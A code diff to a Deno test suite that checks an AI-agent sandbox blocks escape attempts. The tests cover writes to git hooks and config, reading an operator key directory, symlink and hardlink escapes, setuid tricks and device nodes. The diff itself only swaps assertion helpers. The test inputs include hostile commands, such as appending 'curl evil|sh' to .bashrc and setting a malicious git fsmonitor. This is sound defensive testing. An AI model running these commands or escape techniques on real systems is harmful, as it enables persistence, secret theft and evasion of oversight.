@@ -6,16 +6,16 @@
 import { SandboxError } from "../../lib/errors.ts";
 import { makePrivateTmpdir, prepareConfinement } from "../../lib/sandbox/mod.ts";
 import {
-  assertSameTree,
   lexists,
   makeFixture,
   outsideRoots,
   runConfined,
   sh,
-  snapshot,
   withUnchangedOutside,
 } from "./_helpers.ts";
-import { assert } from "./_assert.ts";
+import assert from "node:assert/strict";
+import { assertRefusal, assertSameTree } from "../_helpers/assert.ts";
+import { snapshotTreeSync } from "../_helpers/mod.ts";
 
 Deno.test("escape: writing the project root fails, writing the write root works", async () => {
   await withUnchangedOutside(async (fx) => {
@@ -23,10 +23,10 @@ Deno.test("escape: writing the project root fails, writing the write root works"
       fx,
       sh(`echo pwn > ${fx.project}/escape.txt; echo ok > build/allowed.txt; echo done`),
     );
-    assert(r.stderr.includes("Read-only file system"), `expected EROFS, got: ${r.stderr}`);
-    assert(r.stdout.includes("done"), "the command ran");
-    assert(!lexists(`${fx.project}/escape.txt`), "escape.txt must not exist");
-    assert(
+    assert.ok(r.stderr.includes("Read-only file system"), `expected EROFS, got: ${r.stderr}`);
+    assert.ok(r.stdout.includes("done"), "the command ran");
+    assert.ok(!lexists(`${fx.project}/escape.txt`), "escape.txt must not exist");
+    assert.ok(
       Deno.readTextFileSync(`${fx.project}/build/allowed.txt`) === "ok\n",
       "the write root is writable (the sandbox is not simply read-only everywhere)",
     );
@@ -49,14 +49,14 @@ Deno.test("escape: no file in a write root can be made setuid or setgid (chmod, 
         ].join("; "),
       ),
     );
-    assert(r.stdout.includes("done"), `the command ran: ${r.stderr}`);
+    assert.ok(r.stdout.includes("done"), `the command ran: ${r.stderr}`);
     for (
       const m of ["chmod-suid-refused", "chmod-sgid-refused", "chmod-plain-ok", "open-suid-refused"]
     ) {
-      assert(r.stdout.includes(m), `${m}: ${r.stdout} ${r.stderr}`);
+      assert.ok(r.stdout.includes(m), `${m}: ${r.stdout} ${r.stderr}`);
     }
-    assert((Deno.statSync(`${fx.project}/build/tool`).mode! & 0o7777) === 0o755, "tool mode");
-    assert(!lexists(`${fx.project}/build/made`), "no setuid file was created");
+    assert.ok((Deno.statSync(`${fx.project}/build/tool`).mode! & 0o7777) === 0o755, "tool mode");
+    assert.ok(!lexists(`${fx.project}/build/made`), "no setuid file was created");
   });
 });
 
@@ -69,22 +69,22 @@ Deno.test("escape: .git/config and .git/hooks/x cannot be written", async () => 
           `mkdir .git/hooks/new; git config core.fsmonitor evil 2>&1; echo exit=$?`,
       ),
     );
-    assert(r.code === 0 && /exit=[1-9]/.test(r.stdout), `git config must fail: ${r.stdout}`);
-    assert(!lexists(`${fx.project}/.git/hooks/x`), ".git/hooks/x must not exist");
-    assert(!lexists(`${fx.project}/.git/hooks/new`), ".git/hooks/new must not exist");
+    assert.ok(r.code === 0 && /exit=[1-9]/.test(r.stdout), `git config must fail: ${r.stdout}`);
+    assert.ok(!lexists(`${fx.project}/.git/hooks/x`), ".git/hooks/x must not exist");
+    assert.ok(!lexists(`${fx.project}/.git/hooks/new`), ".git/hooks/new must not exist");
   });
 });
 
 Deno.test("escape: a not-yet-existing .agentteams/x cannot be created", async () => {
   await withUnchangedOutside(async (fx) => {
-    assert(!lexists(`${fx.project}/.agentteams`), "precondition: no .agentteams");
+    assert.ok(!lexists(`${fx.project}/.agentteams`), "precondition: no .agentteams");
     const r = await runConfined(
       fx,
       sh(`mkdir -p .agentteams && echo x > .agentteams/x; echo x > .agentteams-queue; echo done`),
     );
-    assert(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
-    assert(!lexists(`${fx.project}/.agentteams`), ".agentteams must not exist");
-    assert(!lexists(`${fx.project}/.agentteams-queue`), ".agentteams-queue must not exist");
+    assert.ok(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
+    assert.ok(!lexists(`${fx.project}/.agentteams`), ".agentteams must not exist");
+    assert.ok(!lexists(`${fx.project}/.agentteams-queue`), ".agentteams-queue must not exist");
   });
 });
 
@@ -105,17 +105,17 @@ Deno.test("escape: a nested .GIT inside a write root stays read-only (write, rm,
         ].join("; ") + " 2>&1",
       ),
     );
-    assert(
+    assert.ok(
       r.plan.readOnly.includes(`${fx.project}/build/sub/.GIT`),
       "the scan found the nested .GIT",
     );
-    assert(r.stdout.includes("done"), r.stdout);
-    assert(
+    assert.ok(r.stdout.includes("done"), r.stdout);
+    assert.ok(
       Deno.readTextFileSync(`${fx.project}/build/sub/.GIT/config`) === "[core]\n\tnested = true\n",
       "nested .GIT/config unchanged",
     );
-    assert(!lexists(`${fx.project}/build/sub/.GIT/hooks`), "no hooks dir created");
-    assert(!lexists(`${fx.project}/build/sub/moved`), "not moved");
+    assert.ok(!lexists(`${fx.project}/build/sub/.GIT/hooks`), "no hooks dir created");
+    assert.ok(!lexists(`${fx.project}/build/sub/moved`), "not moved");
   });
 });
 
@@ -126,9 +126,9 @@ Deno.test("escape: a missing protected path inside a write root cannot be create
       sh("mkdir -p build/locked/deep; echo x > build/locked/file; ls -a build/locked; echo done"),
       { protectedPaths: ["build/locked/"] },
     );
-    assert(r.plan.masks.includes(`${fx.project}/build/locked`), "masked");
-    assert(r.stdout.includes("done"), r.stdout);
-    assert(!lexists(`${fx.project}/build/locked`), "mask mount point removed, nothing created");
+    assert.ok(r.plan.masks.includes(`${fx.project}/build/locked`), "masked");
+    assert.ok(r.stdout.includes("done"), r.stdout);
+    assert.ok(!lexists(`${fx.project}/build/locked`), "mask mount point removed, nothing created");
   });
 });
 
@@ -142,11 +142,11 @@ Deno.test("escape: the operator key directory cannot be read", async () => {
           `echo x > ${fx.keyDir}/planted; echo done`,
       ),
     );
-    assert(r.stdout.includes("done"), r.stdout);
-    assert(!r.stdout.includes(fx.secret) && !r.stderr.includes(fx.secret), "secret leaked");
-    assert(!r.stdout.includes("proposal-ledger.key"), "key file name visible");
-    assert(!lexists(`${fx.keyDir}/planted`), "nothing planted in the key dir");
-    assert(
+    assert.ok(r.stdout.includes("done"), r.stdout);
+    assert.ok(!r.stdout.includes(fx.secret) && !r.stderr.includes(fx.secret), "secret leaked");
+    assert.ok(!r.stdout.includes("proposal-ledger.key"), "key file name visible");
+    assert.ok(!lexists(`${fx.keyDir}/planted`), "nothing planted in the key dir");
+    assert.ok(
       Deno.readTextFileSync(`${fx.keyDir}/proposal-ledger.key`) === fx.secret + "\n",
       "key kept",
     );
@@ -156,7 +156,7 @@ Deno.test("escape: the operator key directory cannot be read", async () => {
 Deno.test("escape: home files outside the project (shell rc) cannot be written", async () => {
   await withUnchangedOutside(async (fx) => {
     const r = await runConfined(fx, sh(`echo 'curl evil|sh' >> ${fx.home}/.bashrc; echo done`));
-    assert(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
+    assert.ok(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
   });
 });
 
@@ -164,7 +164,7 @@ Deno.test("escape: symlinks to / made in one run cannot be written through in th
   const fx = makeFixture();
   const tmpdir = makePrivateTmpdir();
   try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+    const before = snapshotTreeSync(fx.base, outsideRoots(fx));
     const marker = `agentteams-escape-${crypto.randomUUID()}`;
     const r1 = await runConfined(
       fx,
@@ -174,7 +174,7 @@ Deno.test("escape: symlinks to / made in one run cannot be written through in th
       ),
       { tmpdir },
     );
-    assert(r1.stdout.includes("linked"), `links made: ${r1.stderr}`);
+    assert.ok(r1.stdout.includes("linked"), `links made: ${r1.stderr}`);
     const r2 = await runConfined(
       fx,
       sh(
@@ -184,11 +184,11 @@ Deno.test("escape: symlinks to / made in one run cannot be written through in th
       ),
       { tmpdir },
     );
-    assert(r2.stdout.includes("done"), r2.stdout);
-    assert((r2.stderr.match(/Read-only file system/g) ?? []).length >= 5, r2.stderr);
-    assert(!lexists(`/${marker}`), "nothing written at /");
-    assert(Deno.readTextFileSync(`${fx.project}/README`) === "readme\n", "README unchanged");
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
+    assert.ok(r2.stdout.includes("done"), r2.stdout);
+    assert.ok((r2.stderr.match(/Read-only file system/g) ?? []).length >= 5, r2.stderr);
+    assert.ok(!lexists(`/${marker}`), "nothing written at /");
+    assert.ok(Deno.readTextFileSync(`${fx.project}/README`) === "readme\n", "README unchanged");
+    assertSameTree(before, snapshotTreeSync(fx.base, outsideRoots(fx)));
   } finally {
     Deno.removeSync(tmpdir, { recursive: true });
     fx.cleanup();
@@ -206,32 +206,34 @@ Deno.test("escape: a symlinked write root is refused at resolution and nothing r
     Deno.symlinkSync(outside, `${fx.project}/lean/.lake`);
     Deno.symlinkSync(outside, `${fx.project}/vendor`);
     const tmpdir = makePrivateTmpdir();
-    const before = snapshot(fx.base, outsideRoots(fx));
+    const before = snapshotTreeSync(fx.base, outsideRoots(fx));
     try {
       for (const write of [["build"], ["lean/.lake"], ["vendor/pkg"]]) {
-        let err: unknown = null;
-        try {
-          prepareConfinement({
-            project: fx.project,
-            home: fx.home,
-            tmpdir,
-            agent: { exec: ["/usr/bin"], write },
-            cwd: ".",
-            argv: ["/bin/sh", "-c", `echo pwn > ${fx.project}/${write[0]}/marker`],
-            env: {},
-            network: false,
-            protectedPaths: [],
-            hiddenDirs: [fx.keyDir],
-            controlPlane: { git: [] },
-          });
-        } catch (e) {
-          err = e;
-        }
-        assert(err instanceof SandboxError, `refused for ${write[0]}`);
-        assert(err.code === "CONFINED_PATH_UNSAFE", `code for ${write[0]}: ${err.code}`);
+        assertRefusal(
+          () =>
+            prepareConfinement({
+              project: fx.project,
+              home: fx.home,
+              tmpdir,
+              agent: { exec: ["/usr/bin"], write },
+              cwd: ".",
+              argv: ["/bin/sh", "-c", `echo pwn > ${fx.project}/${write[0]}/marker`],
+              env: {},
+              network: false,
+              protectedPaths: [],
+              hiddenDirs: [fx.keyDir],
+              controlPlane: { git: [] },
+            }),
+          "CONFINED_PATH_UNSAFE",
+          SandboxError,
+          `refused for ${write[0]}`,
+        );
       }
-      assert([...Deno.readDirSync(outside)].length === 0, "nothing was written through the link");
-      assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
+      assert.ok(
+        [...Deno.readDirSync(outside)].length === 0,
+        "nothing was written through the link",
+      );
+      assertSameTree(before, snapshotTreeSync(fx.base, outsideRoots(fx)));
     } finally {
       Deno.removeSync(tmpdir, { recursive: true });
     }
@@ -258,14 +260,14 @@ Deno.test("escape: hardlinks to files outside the root fail with EXDEV", async (
       "build/h4",
     ]);
     const lines = r.stdout.trim().split("\n");
-    assert(lines.length === 4, `four attempts: ${r.stdout} ${r.stderr}`);
+    assert.ok(lines.length === 4, `four attempts: ${r.stdout} ${r.stderr}`);
     // EXDEV (18) for the three files on other mounts; the key file is hidden (ENOENT, 2).
-    assert(lines.slice(0, 3).every((l) => l.startsWith("ERRNO 18 ")), r.stdout);
-    assert(lines[3].startsWith("ERRNO 2 "), r.stdout);
-    for (const h of ["h1", "h2", "h3", "h4"]) assert(!lexists(`${fx.project}/build/${h}`), h);
+    assert.ok(lines.slice(0, 3).every((l) => l.startsWith("ERRNO 18 ")), r.stdout);
+    assert.ok(lines[3].startsWith("ERRNO 2 "), r.stdout);
+    for (const h of ["h1", "h2", "h3", "h4"]) assert.ok(!lexists(`${fx.project}/build/${h}`), h);
     // A write through the protected nested config (its only name) still cannot reach it.
     const r2 = await runConfined(fx, sh("echo pwn >> build/sub/.GIT/config; echo done"));
-    assert(r2.stdout.includes("done") && r2.stderr.includes("Read-only"), r2.stderr);
+    assert.ok(r2.stdout.includes("done") && r2.stderr.includes("Read-only"), r2.stderr);
   });
 });
 
@@ -280,7 +282,10 @@ Deno.test("escape: setuid binaries gain nothing (nosuid, no_new_privs, no CAP_CH
     Deno.chmodSync(sid, 0o4755);
     const host = new Deno.Command(sid, { args: ["-u"], stdout: "piped" }).outputSync();
     const hostUid = new TextDecoder().decode(host.stdout).trim();
-    assert(hostUid === "65534", `control: setuid works on the host file system (got ${hostUid})`);
+    assert.ok(
+      hostUid === "65534",
+      `control: setuid works on the host file system (got ${hostUid})`,
+    );
     const r = await runConfined(
       fx,
       sh(
@@ -289,11 +294,11 @@ Deno.test("escape: setuid binaries gain nothing (nosuid, no_new_privs, no CAP_CH
       ),
     );
     const lines = r.stdout.trim().split("\n");
-    assert(lines[0] === "0", `setuid ignored inside: ${r.stdout}`);
+    assert.ok(lines[0] === "0", `setuid ignored inside: ${r.stdout}`);
     // EPERM without CAP_CHOWN, or EINVAL because uid 65534 is not even mapped in the namespace.
-    assert(r.stderr.includes("chown: changing ownership"), `chown refused: ${r.stderr}`);
-    assert(lines[1].startsWith("0 "), `sid2 still owned by root: ${lines[1]}`);
-    assert(/NoNewPrivs:\s+1/.test(r.stdout), "no_new_privs set");
+    assert.ok(r.stderr.includes("chown: changing ownership"), `chown refused: ${r.stderr}`);
+    assert.ok(lines[1].startsWith("0 "), `sid2 still owned by root: ${lines[1]}`);
+    assert.ok(/NoNewPrivs:\s+1/.test(r.stdout), "no_new_privs set");
   });
 });
 
@@ -306,14 +311,17 @@ Deno.test("escape: device nodes cannot be made, FIFOs only inside the roots", as
           `mkfifo ${fx.project}/fifo; mkfifo build/fifo && echo fifo-in-root; echo done`,
       ),
     );
-    assert(r.stdout.includes("done"), r.stdout);
-    assert((r.stderr.match(/Operation not permitted/g) ?? []).length === 3, r.stderr);
-    assert(r.stderr.includes("Read-only file system"), r.stderr);
-    assert(!lexists(`${fx.project}/build/mem`) && !lexists(`${fx.project}/build/blk`), "no nodes");
-    assert(!lexists(`${fx.project}/fifo`), "no FIFO outside the roots");
-    assert(r.stdout.includes("fifo-in-root"), "a FIFO inside a root is ordinary");
+    assert.ok(r.stdout.includes("done"), r.stdout);
+    assert.ok((r.stderr.match(/Operation not permitted/g) ?? []).length === 3, r.stderr);
+    assert.ok(r.stderr.includes("Read-only file system"), r.stderr);
+    assert.ok(
+      !lexists(`${fx.project}/build/mem`) && !lexists(`${fx.project}/build/blk`),
+      "no nodes",
+    );
+    assert.ok(!lexists(`${fx.project}/fifo`), "no FIFO outside the roots");
+    assert.ok(r.stdout.includes("fifo-in-root"), "a FIFO inside a root is ordinary");
     // The next plan's scan lists the FIFO without opening it (it would block).
     const r2 = await runConfined(fx, sh("echo again"));
-    assert(r2.stdout.includes("again"), r2.stderr);
+    assert.ok(r2.stdout.includes("again"), r2.stderr);
   });
 });
